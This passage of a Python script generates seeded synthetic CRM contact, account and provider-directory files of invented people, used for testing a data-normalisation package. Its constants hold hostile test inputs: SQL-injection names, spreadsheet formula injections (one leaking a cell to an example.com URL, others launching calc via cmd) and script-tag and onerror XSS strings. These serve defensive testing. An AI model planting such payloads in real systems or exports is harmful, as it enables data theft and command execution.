"""Make the sample data: a CRM's contacts and accounts, and the sandbox provider's directory.

    python data/sample/make_sample.py [--out DIR]

writes contacts.csv, accounts.csv, people.csv, people_elsewhere.csv, truth.csv and the README.md
that counts what is in them. Every person and company is invented. The same versions (`MADE_WITH`)
give the same bytes on every run: all randomness is seeded, and there is one fixed reference date
instead of the clock.

It reads in the order in which it works:

1. the world: companies, and people who work there, as they really are;
2. the CRM: one clean row for each person, then everything that happens to such rows in a CRM;
3. the directory: what the provider knows of the same world, which is less, newer, and at times
   something else. It is made from the world, never from the CRM's rows;
4. what is known elsewhere: the people and e-mails that this provider lacks, for the others.

What belongs here: making files. What does not: normalising anything (the package does that, and
is tested on these files), or reading a warehouse.
"""

from __future__ import annotations

import argparse
import csv
import functools
import itertools
import re
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from urllib.parse import quote

import phonenumbers
from faker import Faker

SEED = 20260701
REFERENCE = datetime(2026, 7, 1, tzinfo=UTC)
"""The day on which the CRM was exported. Nothing in the files is later."""

MADE_WITH = {"faker": "40.54.0", "phonenumbers": "9.0.43"}
"""The versions behind the committed bytes: another one may know other names or phone formats."""

# How much of what: contacts and accounts ------------------------------------------------------

ACCOUNTS_PER_TIER = {"strategic": 15, "target": 45, "standard": 120, "bulk": 60, "": 60}
CONTACTS_PER_ACCOUNT = {"strategic": 4.0, "target": 2.2, "standard": 1.0, "bulk": 0.6, "": 0.9}
"""Relative: a strategic account has four times the contacts of a standard one."""
OTHER_COMPANIES = 120
"""Companies that are no accounts: where contacts without an account work, and job changers go."""

CONTACT_ROWS = 5000
UNUSABLE_ROWS = 80
REPEATED_IDS = 8
AGAIN_ON_ANOTHER_ACCOUNT = 70
AGAIN_BY = {"linkedin": 0.42, "email": 0.38, "both": 0.16, "neither": 0.04}
"""What the second row of a person shares with the first. Only the provider can tell 'neither'."""
PEOPLE_WITHOUT_ACCOUNT = 210
NAME_AND_COMPANY_ONLY = 350
NO_DOMAIN_EITHER = 105
SHARED_MAILBOXES = (7, 6, 6, 5, 5, 4, 4)
"""One e-mail address, and how many differently named people share it."""
SHARED_SWITCHBOARDS = (14, 12, 11, 10, 9, 8, 8, 7, 6, 6)

IDENTIFIERS = {
    ("linkedin_url", "email", "phone"): 0.24,
    ("linkedin_url", "email"): 0.26,
    ("linkedin_url", "phone"): 0.06,
    ("email", "phone"): 0.17,
    ("email",): 0.14,
    ("linkedin_url",): 0.08,
    ("phone",): 0.05,
}
CRM_EMAIL = {"work": 0.80, "personal": 0.13, "former": 0.07}

LONG_COMPANY_WORD = 0.2
ACCENTED_SLUG = 0.3
"""Of the people whose name has accents."""
NO_PIPELINE = 0.5
"""Of the accounts of small tiers."""
PHONE_IN_SECOND_ROW = 0.4
SWITCHBOARD_ONLY = 0.3
"""Of the rows with a switchboard number: no other identifier."""
PARTS_BLANK = 450
NO_CREATED_AT, NO_UPDATED_AT = 60, 90

# How much of what: the directory ---------------------------------------------------------------

KNOWN_TO_PROVIDER = 0.78


@dataclass(frozen=True)
class Coverage:
    """What the provider gives out of a person, and for which share of the people."""

    share: float
    label: str
    work_rating: str = ""
    phone_share: float = 0.45


COVERAGE = {
    "verified_work": Coverage(0.65, "work e-mail, rated 100", work_rating="100"),
    "likely_work": Coverage(0.15, "work e-mail, rated 70, and no verified one", work_rating="70"),
    "personal": Coverage(0.07, "personal e-mail, rated 100, and no work e-mail"),
    "phones": Coverage(0.06, "phones only", phone_share=0.8),
    "bare": Coverage(0.07, "neither e-mail nor phone", phone_share=0.0),
}
JOB_CHANGED = 0.08
RECYCLED_EMAILS = 70
OTHER_SPELLING = 0.07
"""Of the people in Latin script. Those in other scripts are mostly known by a transliteration."""
TRANSLITERATED = 0.6
SHOWN_EMAIL_IS_ANOTHER = 0.14
OLD_EMAIL_STILL_FINDS = 0.7
PROFILE_MOVED = 0.03
GENDER_KNOWN, HEADLINE_KNOWN, PREVIOUS_JOB_KNOWN = 0.8, 0.4, 0.3
TITLE_AS_IN_CRM = 0.7
PERSONAL_BESIDE_WORK = 0.25
STRANGERS = {"unknown names": 420, "namesakes elsewhere": 120, "namesakes at the same company": 60}

# Tables ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Country:
    """Where a company sits. Phone patterns: fictional ranges where phonenumbers accepts them."""

    code: str
    name: str
    locale: str
    share: int
    tlds: tuple[str, ...]
    forms: tuple[str, ...]
    landlines: tuple[str, ...]
    mobiles: tuple[str, ...]
    cities: tuple[str, ...]
    script: str = ""


US_AREAS = (
    201, 202, 206, 210, 212, 213, 214, 215, 216, 303, 305, 310, 312, 313, 314, 317, 323, 402, 404,
    405, 407, 408, 410, 412, 414, 415, 425, 502, 503, 504, 510, 512, 513, 602, 614, 615, 617, 619,
    630, 646, 650, 702, 703, 704, 713, 718, 720, 732, 770, 773, 801, 804, 813, 816, 832, 847, 858,
    901, 904, 916, 919, 949, 954, 972,
)  # fmt: skip
US_NUMBERS = tuple(f"+1{area}55501##" for area in US_AREAS)

COUNTRIES = (
    Country("US", "United States", "en_US", 26, ("com", "com", "com", "com", "io", "us"),
            ("Inc", "Inc.", "LLC", "Corp."), US_NUMBERS, US_NUMBERS,
            ("Boston, MA", "Austin, TX", "Denver, CO", "Chicago, IL", "Atlanta, GA")),
    Country("GB", "United Kingdom", "en_GB", 14, ("co.uk", "co.uk", "co.uk", "com", "io"),
            ("Ltd", "Ltd", "PLC", "LLP"),
            ("+4420794600##", "+441134960###", "+441174960###", "+441214960###", "+441314960###",
             "+441614960###", "+441914980###"),
            ("+447400######", "+447911######"), ("London", "Leeds", "Bristol", "Edinburgh")),
    Country("DE", "Germany", "de_DE", 14, ("de", "de", "de", "de", "com"),
            ("GmbH", "GmbH", "AG", "GmbH & Co. KG"),
            ("+493023125###", "+496990009###", "+494066969###", "+492214710###", "+498999998###"),
            ("+49171392####", "+4915228######"), ("Berlin", "Hamburg", "München", "Köln")),
    Country("FR", "France", "fr_FR", 10, ("fr", "fr", "fr", "com"), ("SAS", "SA", "SARL"),
            ("+3319900####", "+3326191####", "+3335301####", "+3346571####", "+3353649####"),
            ("+3362#######",), ("Paris", "Lyon", "Nantes", "Montpellier")),
    Country("ES", "Spain", "es_ES", 7, ("es", "es", "es", "com"), ("S.L.", "S.A."),
            ("+34912######", "+34932######"), ("+34600######",), ("Madrid", "Barcelona", "Málaga")),
    Country("IN", "India", "en_IN", 8, ("co.in", "co.in", "in", "com"), ("Pvt Ltd", "Ltd"),
            ("+91222#######",), ("+9198########",), ("Mumbai", "Pune", "Bengaluru", "Chennai")),
    Country("NL", "Netherlands", "nl_NL", 5, ("nl", "nl", "com"), ("B.V.", "N.V."),
            ("+31207######", "+31107######"), ("+3161#######",), ("Amsterdam", "Utrecht")),
    Country("IT", "Italy", "it_IT", 4, ("it", "it", "com"), ("S.r.l.", "S.p.A."),
            ("+39028#######",), ("+39347#######",), ("Milano", "Torino", "Bologna")),
    Country("SE", "Sweden", "sv_SE", 3, ("se", "se", "io"), ("AB",),
            ("+4684650####", "+4631390####"), ("+4670174####",), ("Stockholm", "Göteborg")),
    Country("IE", "Ireland", "en_IE", 3, ("ie", "ie", "com"), ("Ltd", "DAC"),
            ("+3531#######",), ("+35385#######",), ("Dublin", "Cork")),
    Country("BR", "Brazil", "pt_BR", 2, ("com.br",), ("Ltda", "S.A."),
            ("+55113#######",), ("+551197#######",), ("São Paulo", "Curitiba")),
    Country("PL", "Poland", "pl_PL", 2, ("pl", "pl", "com"), ("Sp. z o.o.", "S.A."),
            ("+4822#######",), ("+48512######",), ("Warszawa", "Kraków")),
    Country("AU", "Australia", "en_AU", 2, ("com.au", "com.au", "io"), ("Pty Ltd",),
            ("+6125550####",), ("+61491570###",), ("Sydney NSW", "Brisbane QLD")),
    Country("IL", "Israel", "en_US", 2, ("co.il",), ("Ltd.",),
            ("+97235######",), ("+97250#######",), ("Tel Aviv", "Haifa"), "Hebrew"),
    Country("JP", "Japan", "en_US", 2, ("co.jp",), ("K.K.",),
            ("+8135#######",), ("+8190########",), ("Tokyo", "Osaka"), "Japanese"),
    Country("AE", "United Arab Emirates", "en_US", 1, ("ae",), ("FZ-LLC",),
            ("+9714#######",), ("+97150#######",), ("Dubai", "Abu Dhabi"), "Arabic"),
)  # fmt: skip
GENERIC_TLDS = ("com", "io")

# Native and Latin spelling of first and last names: what Faker gives in one spelling only.
SCRIPTS: dict[str, tuple[str, str]] = {
    "Hebrew": (
        "נועה Noa|דוד David|יעל Yael|אורי Uri|תמר Tamar|משה Moshe|רחל Rachel|איתן Eitan|שירה Shira",
        "כהן Cohen|לוי Levi|מזרחי Mizrahi|פרץ Peretz|ביטון Biton|אברהם Avraham|פרידמן Friedman",
    ),
    "Arabic": (
        "محمد Mohammed|فاطمة Fatima|أحمد Ahmed|ليلى Layla|يوسف Youssef|مريم Maryam|خالد Khaled",
        "الهاشمي Al-Hashimi|حداد Haddad|منصور Mansour|العلي Al-Ali|خوري Khoury|ناصر Nasser",
    ),
    "Chinese": (
        "伟 Wei|芳 Fang|秀英 Xiuying|敏 Min|静 Jing|强 Qiang|磊 Lei|洋 Yang|艳 Yan|杰 Jie",
        "王 Wang|李 Li|张 Zhang|刘 Liu|陈 Chen|杨 Yang|赵 Zhao|黄 Huang|周 Zhou|吴 Wu",
    ),
    "Japanese": (
        "健 Ken|陽子 Yoko|大輔 Daisuke|美咲 Misaki|拓也 Takuya|直樹 Naoki|恵子 Keiko|翔太 Shota",
        "佐藤 Sato|鈴木 Suzuki|高橋 Takahashi|田中 Tanaka|渡辺 Watanabe|伊藤 Ito|山本 Yamamoto",
    ),
    "Korean": (
        "민수 Minsu|지영 Jiyoung|서준 Seojun|하은 Haeun|도윤 Doyun|수빈 Subin|현우 Hyunwoo",
        "김 Kim|이 Lee|박 Park|최 Choi|정 Jung|강 Kang|조 Cho|윤 Yoon",
    ),
    "Cyrillic": (
        "Андрій Andrii|Олена Olena|Сергей Sergey|Наталья Natalya|Дмитрий Dmitry|Ірина Iryna",
        "Шевченко Shevchenko|Кузнецов Kuznetsov|Бондаренко Bondarenko|Морозова Morozova",
    ),
    "Greek": (
        "Γιώργος Giorgos|Ελένη Eleni|Νίκος Nikos|Μαρία Maria|Δημήτρης Dimitris|Σοφία Sofia",
        "Παπαδόπουλος Papadopoulos|Νικολάου Nikolaou|Γεωργίου Georgiou|Βασιλείου Vasileiou",
    ),
}
HOME_SCRIPT_SHARE = 0.6
ANY_SCRIPT_SHARE = 0.045
FAMILY_NAME_FIRST = {"Chinese": "", "Japanese": " ", "Korean": ""}
"""Scripts that write the family name first, and what stands between the two."""

APOSTROPHES = ("O'Brien", "O'Connor", "D'Angelo", "O'Neill", "D'Souza", "L'Hermitte", "Dell'Acqua")
PARTICLES = (
    "van der Berg", "van den Heuvel", "von der Heide", "de la Cruz", "di Marco", "Bin Saud",
    "von Ahlen", "du Plessis", "de' Medici", "van 't Hoff", "zu Eltz", "dos Santos",
)  # fmt: skip
NAME_KINDS = {"apostrophe": 0.02, "particle": 0.025, "hyphen": 0.035}

NICKNAMES = {
    "Robert": "Bob", "William": "Bill", "Elizabeth": "Liz", "Margaret": "Peggy", "Richard": "Dick",
    "James": "Jim", "John": "Jack", "Michael": "Mike", "Katherine": "Kate", "Christopher": "Chris",
    "Jennifer": "Jen", "Thomas": "Tom", "Joseph": "Joe", "Daniel": "Dan", "Matthew": "Matt",
    "Anthony": "Tony", "Steven": "Steve", "Edward": "Ted", "Patricia": "Trish", "Susan": "Sue",
    "Kimberly": "Kim", "Jessica": "Jess", "Nicholas": "Nick", "Andrew": "Drew", "David": "Dave",
    "Rebecca": "Becky", "Deborah": "Debbie", "Alexander": "Alex", "Samantha": "Sam",
    "Benjamin": "Ben", "Timothy": "Tim", "Jeffrey": "Jeff", "Gregory": "Greg", "Joshua": "Josh",
    "Jonathan": "Jon", "Amanda": "Mandy", "Victoria": "Vicky", "Francisco": "Paco", "José": "Pepe",
    "Wilhelm": "Willi", "Johannes": "Hannes", "Philip": "Phil", "Catherine": "Cathy",
}  # fmt: skip

SYLLABLES = ("bren", "vor", "tal", "quin", "zel", "mar", "dov", "lum", "kest", "orb", "vex", "nor",
             "fal", "tri", "gal", "hex", "pel", "sor", "wyn", "yar", "tov", "ral", "plen", "dax",
             "mir", "ost", "vel", "kron", "jun", "bri")  # fmt: skip
SECTORS = {
    "Systems": "Software", "Robotics": "Automation", "Logistics": "Transport", "Energy": "Energy",
    "Pharma": "Pharmaceuticals", "Foods": "Food", "Analytics": "Software", "Medical": "Medical",
    "Capital": "Finance", "Textiles": "Textiles", "Optics": "Electronics", "Media": "Media",
    "Materials": "Chemicals", "Security": "Security", "Mobility": "Cars", "Water": "Utilities",
}  # fmt: skip
UMLAUT_COMPANIES = (("Grünvolt Energie", "grünvolt-energie"), ("Köstrix Foods", "köstrix-foods"))
SIZES = ("1-10", "11-50", "51-200", "201-500", "501-1000", "1001-5000", "5001-10000", "10001+")
SIZE_LIMITS = (10, 50, 200, 500, 1000, 5000, 10000)

TITLES = (
    "Account Manager", "Accountant", "Business Analyst", "CEO", "CFO", "Chief Operating Officer",
    "CTO", "Customer Success Manager", "Data Engineer", "Director of Finance",
    "Executive Assistant", "Facility Manager", "Head of IT", "Head of Marketing",
    "Head of Procurement", "HR Manager", "Inside Sales", "IT Security Officer",
    "Key Account Manager", "Logistics Coordinator", "Managing Director", "Marketing Manager",
    "Operations Manager", "Owner", "Partner", "Plant Manager", "Procurement Specialist",
    "Product Manager", "Project Manager", "Purchasing Manager", "Quality Engineer", "R&D Lead",
    "Regional Sales Manager", "Sales Development Representative", "Software Engineer",
    "Supply Chain Lead", "Team Lead, Support", "VP Engineering", "VP Operations", "VP Sales, EMEA",
)  # fmt: skip
LOCAL_TITLES = {
    "DE": (
        "Geschäftsführer",
        "Einkaufsleiterin",
        "Kaufmännischer Leiter",
        "Leiter Vertrieb (m/w/d)",
    ),
    "FR": ("Directeur commercial", "Responsable Achats", "Chargée d'affaires", "Gérant"),
    "ES": ("Director de Compras", "Jefa de Producción", "Gerente", "Técnico de Ventas"),
}
LOCAL_TITLE_SHARE = 0.4

FREE_MAIL = {
    "US": ("gmail.com", "yahoo.com", "outlook.com", "icloud.com", "aol.com"),
    "GB": ("gmail.com", "hotmail.co.uk", "yahoo.co.uk", "btinternet.com"),
    "DE": ("gmx.de", "web.de", "t-online.de", "gmail.com", "gmx.net"),
    "FR": ("orange.fr", "free.fr", "laposte.net", "gmail.com"),
}
OTHER_FREE_MAIL = ("gmail.com", "hotmail.com", "yahoo.com", "proton.me", "outlook.com")
DISPOSABLE = (
    "mailinator.com",
    "guerrillamail.com",
    "yopmail.com",
    "10minutemail.com",
    "temp-mail.org",
)
ROLES = (
    "info",
    "sales",
    "office",
    "contact",
    "hello",
    "support",
    "admin",
    "billing",
    "hr",
    "kontakt",
)
MALFORMED = (
    "n/a", "none", "{local}@", "{first} {last}@{domain}", "unknown", "-", "{local}.{domain}",
    "{local}@@{domain}", "@{domain}", "{local}@{label}", "{local}@{domain},", "no email",
    "{local}@.{domain}", "a b@c.com", "x",
)  # fmt: skip
JUNK_PHONES = (
    "000-000", "tbd", "n/a", "0", "123456", "+", "unknown", "call reception", "1234567890",
    "xxx-xxx-xxxx", "+1 000 000 0000", "999999999999999999",
)  # fmt: skip
JUNK_LINKEDIN = (
    "linkedin", "n/a", "https://www.linkedin.com/", "https://www.linkedin.com/feed/",
    "https://www.linkedin.com/in/", "https://twitter.com/{slug}", "see website",
    "https://www.linkedin.com/sales/lead/ACwAAB{digits}kXq,NAME_SEARCH",
)  # fmt: skip
SUBDOMAIN = {"GB": "uk", "DE": "de", "FR": "fr", "ES": "es", "IN": "in", "NL": "nl", "IT": "it"}

HOSTILE_NAMES = ("Robert'); DROP TABLE contacts;--", "' OR '1'='1", '"; DELETE FROM accounts; --',
                 "x' UNION SELECT NULL,NULL--", "$$; ATTACH 'x'; $$", "{{7*7}}")  # fmt: skip
FORMULAS = ('=HYPERLINK("http://example.com/?leak="&A1,"click me")', "+cmd|' /C calc'!A0",
            "=1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0")  # fmt: skip
HTML = ("<script>alert('crm')</script>", "<b>Head</b> of Sales", "<img src=x onerror=alert(1)>",
        "Sales &amp; Marketing", "<!-- Manager -->")  # fmt: skip
EMOJI = ("🚀", "😀", "👩‍💻", "🇪🇺", "✨", "❤️")

CONTACT_COLUMNS = (
    "contact_id", "account_id", "first_name", "last_name", "full_name", "email", "phone",
    "linkedin_url", "company_name", "company_domain", "job_title", "created_at", "updated_at",
)  # fmt: skip
ACCOUNT_COLUMNS = (
    "account_id", "name", "domain", "tier", "annual_revenue", "employee_count", "open_pipeline",
)  # fmt: skip
TRUTH_COLUMNS = ("contact_id", "uid")
PEOPLE_COLUMNS = (
    "uid", "full_name", "gender", "headline", "location", "linkedin_url", "title", "company",
    "company_domain", "company_industry", "company_size", "started", "previous_title",
    "previous_company", "previous_company_domain", "work_email", "work_email_rating",
    "personal_email", "personal_email_rating", "work_phone", "work_phone_rating", "mobile_phone",
    "mobile_phone_rating", "known_emails",
)  # fmt: skip

# Small tools -----------------------------------------------------------------------------------


class Unique:
    """Values that may be given out once: e-mail addresses, phone numbers, profile slugs, uids."""

    def __init__(self) -> None:
        self._taken: set[str] = set()

    def make(self, attempt: Callable[[], str]) -> str:
        """Try until a value comes out that nobody has."""
        for _ in range(10_000):
            value = attempt()
            if value not in self._taken:
                self._taken.add(value)
                return value
        raise RuntimeError("a pattern has run out of unique values: widen it")


TALLY: Counter[tuple[str, str]] = Counter()
"""(file and column, kind of mess) → rows. Filled while the mess is made, printed in the README."""


def draw(rng: Random, shares: dict[str, float]) -> str:
    """Draw one key with the given shares as weights."""
    return rng.choices(list(shares), weights=list(shares.values()))[0]


def ascii_letters(text: str) -> str:
    """Drop accents the way a careless import does: José → Jose, Müller → Muller, Łódź → Lodz."""
    plain = text.translate(
        str.maketrans({"ß": "ss", "ø": "o", "Ø": "O", "ł": "l", "Ł": "L", "æ": "ae"})
    )
    return unicodedata.normalize("NFKD", plain).encode("ascii", "ignore").decode()


def local_part(text: str) -> str:
    """Spell a name as it stands in an e-mail address: Jürgen von der Heide → juergenvonderheide."""
    german = text.lower().translate(str.maketrans({"ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss"}))
    return re.sub(r"[^a-z]", "", ascii_letters(german)) or "x"


def digits(rng: Random, pattern: str) -> str:
    """Replace each # by a digit."""
    return "".join(str(rng.randrange(10)) if c == "#" else c for c in pattern)


def is_valid_phone(number: str) -> bool:
    return phonenumbers.is_valid_number(phonenumbers.parse(number))


def coined_word(rng: Random, syllables: int = 2) -> str:
    return "".join(rng.sample(SYLLABLES, syllables))


# 1. The world: companies and people as they are ------------------------------------------------


@dataclass(frozen=True)
class Company:
    name: str
    domain: str
    mail_domain: str
    country: Country
    industry: str
    employees: int
    email_pattern: str
    account_id: str = ""
    tier: str = ""

    @property
    def has_country_domain(self) -> bool:
        return self.domain.rsplit(".", 1)[-1] not in GENERIC_TLDS

    @property
    def size(self) -> str:
        return SIZES[sum(self.employees > limit for limit in SIZE_LIMITS)]


@dataclass(frozen=True)
class Name:
    first: str
    last: str
    latin_first: str
    latin_last: str
    script: str = ""
    gender: str = ""

    @property
    def full(self) -> str:
        if self.script in FAMILY_NAME_FIRST:
            return self.last + FAMILY_NAME_FIRST[self.script] + self.first
        return f"{self.first} {self.last}"

    @property
    def latin(self) -> str:
        return f"{self.latin_first} {self.latin_last}"

    @property
    def spelled_for_email(self) -> tuple[str, str]:
        if self.script:
            return local_part(self.latin_first), local_part(self.latin_last)
        return local_part(self.first), local_part(self.last)


@dataclass
class Person:
    """A human being of the invented world, with everything that is true of them."""

    name: Name
    company: Company
    title: str
    slug: str
    work_email: str
    personal_email: str
    former_email: str
    landline: str
    mobile: str
    crm_email: str
    crm_phone: str
    contact_ids: list[str] = field(default_factory=list)
    uid: str = ""
    """Under which the directory lists them; empty where it does not."""


EMAIL_PATTERNS = {
    "{f}.{l}": 0.45,
    "{i}{l}": 0.2,
    "{f}": 0.1,
    "{f}_{l}": 0.1,
    "{l}.{f}": 0.07,
    "{f}{l}": 0.08,
}


class World:
    """Invents companies, names and identifiers, and gives no identifier to two people."""

    def __init__(self, rng: Random) -> None:
        self.rng = rng
        self.emails, self.phones, self.slugs, self.domains = Unique(), Unique(), Unique(), Unique()
        self.fakers = {}
        for country in COUNTRIES:
            self.fakers[country.code] = Faker(country.locale)
            self.fakers[country.code].seed_instance(f"{SEED}:{country.code}")

    def company(self, employees: int, account_id: str = "", tier: str = "") -> Company:
        country = self.rng.choices(COUNTRIES, weights=[c.share for c in COUNTRIES])[0]
        sector = self.rng.choice(list(SECTORS))
        word = self.domains.make(
            lambda: coined_word(self.rng, 2 + (self.rng.random() < LONG_COMPANY_WORD))
        )
        hyphen = self.rng.choice(("-", "-", ""))
        domain = f"{word}{hyphen}{sector.lower()}.{self.rng.choice(country.tlds)}"
        name = f"{word.capitalize()} {sector} {self.rng.choice(country.forms)}"
        pattern = draw(self.rng, EMAIL_PATTERNS)
        return Company(
            name, domain, domain, country, SECTORS[sector], employees, pattern, account_id, tier
        )

    def name(self, country: Country) -> Name:
        chance = self.rng.random()
        if country.script and chance < HOME_SCRIPT_SHARE:
            return self.name_in(country.script)
        if chance < ANY_SCRIPT_SHARE:
            return self.name_in(self.rng.choice(list(SCRIPTS)))
        return self.latin_name(country)

    def name_in(self, script: str) -> Name:
        pick = [self.rng.choice(column.split("|")).split(" ") for column in SCRIPTS[script]]
        (first, latin_first), (last, latin_last) = pick
        return Name(first, last, latin_first, latin_last, script)

    def latin_name(self, country: Country) -> Name:
        fake, chance = self.fakers[country.code], self.rng.random()
        gender = self.rng.choice(("male", "female"))
        first = fake.first_name_male() if gender == "male" else fake.first_name_female()
        family = fake.last_name_male if gender == "male" else fake.last_name_female
        last = family()
        apostrophe, particle, hyphen = NAME_KINDS.values()
        if chance < apostrophe:
            last = self.rng.choice(APOSTROPHES)
        elif chance < apostrophe + particle:
            last = self.rng.choice(PARTICLES)
        elif chance < apostrophe + particle + hyphen:
            last = f"{last}-{family()}"
        return Name(first, last, ascii_letters(first), ascii_letters(last), gender=gender)

    def work_email(self, name: Name, company: Company, pattern: str = "") -> str:
        """An address at the company: its usual pattern, or a number behind where that is taken."""
        first, last = name.spelled_for_email
        pattern = pattern or company.email_pattern
        local = pattern.format(f=first, l=last, i=first[0])
        tries = iter(range(1, 10_000))

        def attempt() -> str:
            nth = next(tries)
            return f"{local}{nth if nth > 1 else ''}@{company.mail_domain}"

        return self.emails.make(attempt)

    def other_work_email(self, name: Name, company: Company) -> str:
        others = [p for p in EMAIL_PATTERNS if p != company.email_pattern]
        return self.work_email(name, company, self.rng.choice(others))

    def personal_email(self, name: Name, country: Country, domains: Sequence[str] = ()) -> str:
        """At a real free-mail host, so the local part has a coined word that nobody is called."""
        hosts = domains or FREE_MAIL.get(country.code, OTHER_FREE_MAIL)
        (first, _), rng = name.spelled_for_email, self.rng
        return self.emails.make(
            lambda: f"{first}.{coined_word(rng)}{rng.randrange(10, 1000)}@{rng.choice(hosts)}"
        )

    def phone(self, patterns: Sequence[str]) -> str:
        def attempt() -> str:
            number = digits(self.rng, self.rng.choice(patterns))
            return number if is_valid_phone(number) else attempt()

        return self.phones.make(attempt)

    def slug(self, name: Name) -> str:
        """The end of a LinkedIn profile URL. A few keep the accents of the name."""
        keeps = not name.script and name.full != name.latin and self.rng.random() < ACCENTED_SLUG
        text = name.full if keeps else name.latin
        stem = re.sub(r"[^\w]+", "-", text.lower()).strip("-")
        return self.slugs.make(lambda: f"{stem}-{self.rng.getrandbits(32):08x}")

    def title(self, country: Country) -> str:
        is_local = country.code in LOCAL_TITLES and self.rng.random() < LOCAL_TITLE_SHARE
        return self.rng.choice(LOCAL_TITLES[country.code] if is_local else TITLES)

    def person(self, company: Company, name: Name | None = None) -> Person:
        name = name or self.name(company.country)
        work = self.work_email(name, company)
        personal = self.personal_email(name, company.country)
        landline, mobile = (
            self.phone(company.country.landlines),
            self.phone(company.country.mobiles),
        )
        person = Person(
            name, company, self.title(company.country), self.slug(name), work, personal, "",
            landline, mobile, work, self.rng.choice((landline, mobile)),
        )  # fmt: skip
        match draw(self.rng, CRM_EMAIL):
            case "personal":
                person.crm_email = personal
            case "former":
                person.former_email = self.other_work_email(name, company)
                person.crm_email = person.former_email
        return person


# Accounts: figures by which those without a tier can still be told apart ------------------------

FIGURES = {  # revenue, employees, open pipeline, each from … to …
    "strategic": ((4e8, 9e9), (2000, 60000), (3e5, 5e6)),
    "target": ((5e7, 9e8), (300, 8000), (5e4, 9e5)),
    "standard": ((3e6, 1e8), (30, 900), (0, 1.5e5)),
    "bulk": ((2e5, 8e6), (2, 80), (0, 2e4)),
}
BLANK_TIER_SHARES = {"strategic": 0.2, "target": 0.25, "standard": 0.3, "bulk": 0.25}


@dataclass(frozen=True)
class AccountMess:
    label: str
    count: int
    change: Callable[[dict[str, str]], dict[str, str]]


NO_FIGURES = dict.fromkeys(("annual_revenue", "employee_count", "open_pipeline"), "")
ACCOUNT_MESSES = (
    AccountMess("no figures", 4, lambda row: NO_FIGURES),
    AccountMess("no annual_revenue", 12, lambda row: {"annual_revenue": ""}),
    AccountMess("no employee_count", 8, lambda row: {"employee_count": ""}),
    AccountMess("no domain", 10, lambda row: {"domain": ""}),
    AccountMess("domain as a URL", 12, lambda row: {"domain": f"https://www.{row['domain']}/"}),
    AccountMess("domain in capitals", 6, lambda row: {"domain": row["domain"].upper()}),
)


def make_accounts(world: World) -> tuple[list[Company], list[dict[str, str]]]:
    """The accounts as companies, and as the CRM's rows."""
    rng, companies, rows = world.rng, [], []
    tiers = [tier for tier, count in ACCOUNTS_PER_TIER.items() for _ in range(count)]
    rng.shuffle(tiers)
    for number, tier in enumerate(tiers, start=1):
        like = tier or draw(rng, BLANK_TIER_SHARES)
        revenue, staff, pipeline = FIGURES[like]
        employees = log_uniform(rng, *staff)
        company = world.company(employees, f"A{number:04d}", tier)
        companies.append(company)
        money = log_uniform(rng, max(pipeline[0], 500), pipeline[1])
        rows.append({
            "tier": tier,
            "annual_revenue": f"{log_uniform(rng, *revenue)}",
            "employee_count": f"{employees}",
            "open_pipeline": f"{0 if not pipeline[0] and rng.random() < NO_PIPELINE else money}",
        })  # fmt: skip
        TALLY["accounts", f"tier {tier}" if tier else f"tier blank, figures like {like}"] += 1
    companies = with_umlauts(companies)
    for company, row in zip(companies, rows, strict=True):
        row |= {"account_id": company.account_id, "name": company.name, "domain": company.domain}
    spoil_accounts(rng, rows)
    return companies, rows


def log_uniform(rng: Random, low: float, high: float) -> int:
    """A whole number from low to high, small ones likelier, rounded to two digits."""
    return int(float(f"{low * (high / low) ** rng.random():.2g}"))


def with_umlauts(companies: list[Company]) -> list[Company]:
    """Give two German accounts an internationalised domain (mail goes to its ASCII form)."""
    german = [i for i, c in enumerate(companies) if c.domain.endswith(".de")]
    for i, (name, label) in zip(german, UMLAUT_COMPANIES, strict=False):
        domain = f"{label}.de"
        mail = domain.encode("idna").decode()
        companies[i] = replace(companies[i], name=f"{name} GmbH", domain=domain, mail_domain=mail)
        TALLY["accounts", "internationalised domain"] += 1
    return companies


def spoil_accounts(rng: Random, rows: list[dict[str, str]]) -> None:
    """Each account is spoiled in one way at most."""
    spoiled = iter(rng.sample(rows, sum(mess.count for mess in ACCOUNT_MESSES)))
    for mess in ACCOUNT_MESSES:
        for row in itertools.islice(spoiled, mess.count):
            row.update(mess.change(row))
        TALLY["accounts", mess.label] += mess.count


# 2. The CRM: clean rows first -------------------------------------------------------------------


@dataclass
class Row:
    """A line of contacts.csv. `settled` names the columns that no (further) mess may touch."""

    person: Person | None
    fields: dict[str, str]
    is_twice: bool = False
    """Whether the person has another row: then what the two share must stay readable."""
    settled: set[str] = field(default_factory=set)


def who(row: Row) -> Person:
    """The person of a row that has one."""
    assert row.person is not None
    return row.person


def make_people(world: World, accounts: list[Company], others: list[Company]) -> list[Person]:
    """Everybody behind the contacts: most at accounts (more at the big ones), some elsewhere."""
    count = CONTACT_ROWS - UNUSABLE_ROWS - REPEATED_IDS - ROWS_AGAIN
    at_accounts = count - PEOPLE_WITHOUT_ACCOUNT
    weights = [CONTACTS_PER_ACCOUNT[c.tier] for c in accounts]
    employers = accounts + world.rng.choices(
        accounts, weights=weights, k=at_accounts - len(accounts)
    )
    employers += world.rng.choices(others, k=PEOPLE_WITHOUT_ACCOUNT)
    world.rng.shuffle(employers)
    return [world.person(company) for company in employers]


def clean_row(person: Person, columns: Iterable[str]) -> Row:
    """The person as a careful colleague would have typed them, with these identifiers."""
    every = {
        "email": person.crm_email,
        "phone": person.crm_phone,
        "linkedin_url": f"https://www.linkedin.com/in/{quote(person.slug)}",
    }
    fields = dict.fromkeys(CONTACT_COLUMNS, "") | {
        "account_id": person.company.account_id,
        "first_name": person.name.first,
        "last_name": person.name.last,
        "full_name": person.name.full,
        "company_name": person.company.name,
        "company_domain": person.company.domain,
        "job_title": person.title,
    }
    return Row(person, fields | {c: every[c] for c in columns})


def rows_of_everybody(rng: Random, people: list[Person]) -> list[Row]:
    """One row each. The first ones have a name and a company and nothing else."""
    kinds, weights = list(IDENTIFIERS), list(IDENTIFIERS.values())
    rows = [clean_row(person, ()) for person in people[:NAME_AND_COMPANY_ONLY]]
    TALLY["contacts: row", "a name and a company only"] = len(rows)
    for row in rows:
        row.settled |= {"first_name", "last_name", "full_name"}  # nothing else finds them
    for row in rng.sample(rows, NO_DOMAIN_EITHER):
        row.fields["company_domain"] = ""
